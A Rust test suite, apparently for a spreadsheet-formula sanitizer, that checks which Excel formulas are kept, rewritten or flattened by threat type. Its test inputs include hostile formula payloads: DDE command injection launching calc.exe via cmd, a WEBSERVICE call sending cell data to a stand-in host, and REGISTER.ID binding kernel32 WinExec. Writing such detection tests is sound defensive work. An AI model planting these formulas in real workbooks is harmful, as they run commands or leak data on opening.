use proptest::prelude::*;

use super::*;

fn decide(formula: &str, context: Context) -> Verdict {
    let name = |name: &str| match name {
        "MYLAMBDA" | "売上" | "Table1" | "IMAGE" => NameStatus::Kept,
        "Bad" => NameStatus::Dropped("xlsx.xlm-in-defined-names"),
        _ => NameStatus::Unknown,
    };
    let workbook = Workbook { name: &name, sheet: &|sheet| sheet == "v1.2" };
    judge(formula, context, &workbook, &["http", "https", "mailto"].map(str::to_owned))
}

fn flattened(formula: &str) -> Threat {
    match decide(formula, Context::Cell) {
        Verdict::Flatten(threat) => threat,
        verdict => panic!("{formula:?}: {verdict:?}"),
    }
}

#[test]
fn formulas_of_the_workbook_stay() {
    for formula in [
        "SUM(A1:B2)",
        "=A1+1",
        "'売上 2024'!$A$1:$B$2",
        "売上!A1",
        "SUM(Sheet1:Sheet3!A1)",
        "'A B:C D'!A1",
        "A:A",
        "$1:$5",
        "Sheet1!1:1",
        "Table1[[#This Row],[金額]]*2",
        "Table1[#All]",
        "Table1[[#Totals],[Total Cost (Purchase Price + Fees)]]",
        "[Quantity]*[Current Quote]",
        "([Quantity]*[Purchase Price Per Share])+[Trade Fees]",
        "[1]+1",
        "Table1[[a'#b]:[c''d]]",
        "A1#",
        "SUM(A1#)",
        "@A1",
        "{1,2;\"x\",#N/A;TRUE,-1}",
        "IF(A1=\"\",\"\",A1&\"\"\"\")",
        "#REF!",
        "Sheet1!#REF!+#REF!$A$1",
        "-A1%^2",
        "1.5E+10*.5",
        "_xlfn.XLOOKUP(A1,B:B,C:C)",
        "_xlfn._xlws.FILTER(A1:A9,A1:A9>1)",
        "_xlfn.LET(_xlpm.x,1,_xlpm.x+1)",
        "_xlfn.LAMBDA(_xlpm.f,_xlpm.f(1))(_xlfn.LAMBDA(_xlpm.y,_xlpm.y))",
        "_xlfn.BYROW(A1:B2,_xleta.SUM)",
        "_xlfn.SINGLE(A1:A3)",
        "_xlfn.ANCHORARRAY(A1)",
        "MYLAMBDA(1)",
        "売上*2",
        "[0]!売上",
        "sum(a1)",
        "A1 B1:C9",
        "(A1,B1)",
        "INDIRECT(\"A\"&ROW())",
        "INDIRECT(\"'\"&A1&\"'!B2\")",
        "INDIRECT(\"Table1[金額]\")",
        "INDIRECT(A1&\"[\"&B1&\"]\")",
        "ENCODEURL(\"語\")",
        "CELL(\"filename\",A1)",
        "PHONETIC(A1)",
        "ASC(JIS(A1))",
        "DATEDIF(A1,B1,\"Y\")",
        "SUMPRODUCT(--(A1:A9=\"a|b\"))",
        "\"https://example.com/\"&A1",
        "v1.2!A1",
        "OFFSET(Sheet1!$A$1,0,0,COUNTA(Sheet1!$A:$A),1)",
        "IF(\n  A1>0,\n  1,\n  2)",
        "IMAGE",
        "SUM (A1)",
        "HYPERLINK(\"https://example.com/\",\"x\")",
        "HYPERLINK(\"mailto:a@example.com\")",
        "HYPERLINK(\"#'一覧'!A1\",A1&\"→\")",
        "IF(A1,HYPERLINK(\"http://example.com/a?b=\"\"\",HYPERLINK(\"#A1\")),)",
        "FILTERXML(\"<a><b>\"&A1&\"</b></a>\",\"//b\")",
        "GETPIVOTDATA(\"x\",$A$3)",
    ] {
        let verdict = decide(formula, Context::Cell);
        let quote = formula.contains("b=\"\"");
        assert!(
            verdict == Verdict::Keep || quote && matches!(verdict, Verdict::Rewrite(_)),
            "{formula:?}: {verdict:?}"
        );
    }
}

#[test]
fn dde_is_flattened() {
    for formula in [
        "cmd|'/C calc.exe KILL'!A0",
        "=cmd|' /C calc'!'A0'",
        "MSEXCEL|'\\..\\..\\calc.exe'!''",
        "+cmd|'/c x'!A1+1",
        "'cmd|/c x'!A0",
        "SUM(1,DDE(\"a\",\"b\",\"c\"))",
        "DDE (\"a\")",
        "\"open cmd|'/C'!A0",
    ] {
        assert_eq!(flattened(formula), DDE, "{formula}");
    }
}

#[test]
fn references_to_other_files_are_flattened() {
    for formula in
        ["[1]Sheet1!A1", "'[1]シート 1'!B8", "[1]!name", "[12]データ!$A$2:$A$22", "SUM([2]S!A:A)", "[1]!''"]
    {
        assert_eq!(flattened(formula).get(..13), Some("xlsx.external").map(|s| &s[..13]), "{formula}");
    }
    for formula in [
        "'https://kill.example.invalid/[b.xlsx]S'!A1",
        "'\\\\kill\\s\\[b.xlsx]S'!A1",
        "'C:\\x\\[b.xls]S'!A1",
        "[b.xlsx]S!A1",
        "\\\\kill\\s!A1",
        "'file:///c:/x.ods'#$Sheet1.A1",
        "C:\\x\\[b.xls]S!A1",
        "INDIRECT(\"'\\\\kill\\[b]S'!A1\")",
        "INDIRECT(\"[b.xlsx]S!A1\")",
        "INDIRECT(\"'[\"&A1&\"]S'!A1\")",
        "INDIRECT(T(\"'file:///c:/x'#$S.A1\"))",
        "Book1.xlsx!Name",
        "'C:\\x.xlsm'!Macro()",
    ] {
        let threat = flattened(formula);
        assert!(threat == REMOTE || formula.contains("C:\\x\\[") && threat == FORM, "{formula}: {threat}");
    }
}

#[test]
fn functions_off_the_list_are_flattened_by_family() {
    for (formula, threat) in [
        (
            "_xlfn.WEBSERVICE(\"https://kill.example.invalid/?d=\"&A1)",
            "xlsx.webservice-and-network-functions",
        ),
        ("FILTERXML(WEBSERVICE(A1),\"//x\")", "xlsx.webservice-and-network-functions"),
        ("_XLFN.image(\"https://x\")", "xlsx.webservice-and-network-functions"),
        ("_xlfn._xlws.PY(0,1)", "xlsx.webservice-and-network-functions"),
        ("_xlfn.MAP(A1:A2,_xleta.WEBSERVICE)", "xlsx.webservice-and-network-functions"),
        ("_xlfn.MAP(A1:A2,WEBSERVICE)", "xlsx.webservice-and-network-functions"),
        ("WEBSERVICE (A1)", "xlsx.webservice-and-network-functions"),
        ("CUBEVALUE(\"c\",\"m\")", "xlsx.webservice-and-network-functions"),
        ("SQL.REQUEST(\"x\")", "xlsx.webservice-and-network-functions"),
        ("RTD(\"KILL.Server\",,\"x\")", "xlsx.rtd-volatile-dependencies"),
        ("REGISTER.ID(\"kernel32\",\"WinExec\")", "xlsx.call-register-id"),
        ("1+CALL(\"x\",\"y\",\"J\")", "xlsx.call-register-id"),
        ("_xll.KILL(1)", ADDIN),
        ("[1]!NAME(1)", ADDIN),
        ("[0]!MacroFunction(1)", ADDIN),
        ("Sheet1!SUM(1)", ADDIN),
        ("WA10301(A1)", ADDIN),
        ("_xlfn.DISPIMG(\"ID\",1)", ADDIN),
        ("_xludf.x(1)", ADDIN),
        ("IFERROR(__xludf.DUMMYFUNCTION(\"IMPORTDATA(\"\"https://x\"\")\"),1)", ADDIN),
        ("EXEC(\"calc.exe\")", "xlsx.xlm-in-defined-names"),
        ("Bad+1", "xlsx.xlm-in-defined-names"),
        ("Bad(1)", "xlsx.xlm-in-defined-names"),
    ] {
        assert_eq!(flattened(formula), threat, "{formula}");
    }
}

#[test]
fn hyperlinks_stay_only_with_a_literal_address_of_the_policy() {
    for formula in [
        "HYPERLINK(\"https://kill.example.invalid/?\"&A1,\"KEEP\")",
        "HYPERLINK(A1)",
        "HYPERLINK(\"file:///c:/x\")",
        "HYPERLINK()",
        "HYPERLINK(,1)",
        "HYPERLINK(\"[\\\\kill\\b.xlsm]S!A1\")",
        "HYPERLINK((\"https://example.com\"))",
        "HYPERLINK(\"ftp://example.com\")",
        "HYPERLINK(\"calc.exe\",1)",
        "HYPERLINK(+\"https://example.com\")",
        "HYPERLINK(\"#[b.xlsm]S!A1\")",
        "HYPERLINK(\"https://example.com\"\"|\"&A1)",
    ] {
        assert_eq!(flattened(formula), HYPERLINK, "{formula}");
    }
    let formula = "1&HYPERLINK( \"HTTP://u@Example.com/日\" ,\"x\")&\"y\"";
    let rewritten = "1&HYPERLINK( \"http://example.com/%E6%97%A5\" ,\"x\")&\"y\"";
    assert_eq!(decide(formula, Context::Cell), Verdict::Rewrite(rewritten.to_owned()));
}

#[test]
fn functions_outside_cells_have_a_threat_of_their_own() {
    let formula = "WEBSERVICE(\"https://kill.example.invalid\")";
    assert_eq!(decide(formula, Context::DataValidation), Verdict::Flatten("xlsx.cf-dv-chart-formulas"));
    assert_eq!(decide("CALL(1)", Context::Other), Verdict::Flatten("xlsx.cf-dv-chart-formulas"));
    assert_eq!(decide("[1]S!A1", Context::Chart), Verdict::Flatten(WORKBOOK));
}

#[test]
fn formulas_beyond_excels_limits_are_flattened() {
    let nested = |depth: usize| format!("{}1{}", "IF(".repeat(depth), ")".repeat(depth));
    assert_eq!(decide(&nested(64), Context::Cell), Verdict::Keep);
    for formula in [
        nested(65),
        nested(5_000),
        "(".repeat(2_000) + &")".repeat(2_000),
        format!("SUM({})", vec!["1"; 256].join(",")),
        "1+".repeat(5_000) + "1",
        "IF(1".to_owned(),
        "1)".to_owned(),
        "{1)".to_owned(),
        "A1\"x\"".to_owned(),
        "'x'".to_owned(),
        "\"open".to_owned(),
        "1 ~ 2".to_owned(),
    ] {
        assert_eq!(flattened(&formula), FORM, "{:.40}", formula);
    }
    let prefixed = vec!["_xlfn.XLOOKUP(1,A:A,B:B)"; 400].join("+");
    assert_eq!(decide(&prefixed, Context::Cell), Verdict::Keep);
}

proptest! {
    #[test]
    fn what_stays_calls_only_what_is_listed_and_leads_nowhere(
        formula in prop::collection::vec(prop::sample::select(vec![
            "WEBSERVICE", "SUM", "_xlfn.", "(", "(", ")", ")", "\"", "'", "[", "]", "1", "!", "|", "A1", "\\", ",", " ", "cmd", "HYPERLINK", "https://x", "{", "}",
            "#REF!", "Table1", "+", ":", ".",
        ]), 0..24)
    ) {
        let formula = formula.concat();
        if decide(&formula, Context::Cell) == Verdict::Keep {
            // Without texts, nothing that is left may be dangerous.
            let outside: String = formula.split('"').step_by(2).collect::<Vec<_>>().join("T");
            let quoted = outside.contains('\'') || outside.contains('[');
            prop_assert!(!outside.replace(' ', "").contains("WEBSERVICE(") || quoted, "{}", formula);
            prop_assert!(!outside.contains('|') || outside.contains('['), "{}", formula);
            prop_assert!(!outside.contains("https://x'!") , "{}", formula);
        }
    }

    #[test]
    fn any_text_gets_a_verdict_and_a_rewrite_is_a_fixed_point(formula in any::<String>()) {
        for formula in [formula.clone(), format!("HYPERLINK(\"{}\")", formula.replace('"', "\"\""))] {
            if let Verdict::Rewrite(written) = decide(&formula, Context::Cell) {
                prop_assert_eq!(decide(&written, Context::Cell), Verdict::Keep);
            }
        }
    }
}

#[test]
fn the_address_of_a_cell_is_told_from_names_and_functions() {
    for cell in ["E2", "$E$2", "xfd1048576", "LOG10"] {
        assert!(super::is_cell(cell), "{cell}");
    }
    for other in ["", "E", "2", "E2F", "ABCD1", "E12345678", "_xlfn.A1", "E$", "R1C1"] {
        assert!(!super::is_cell(other), "{other}");
    }
}
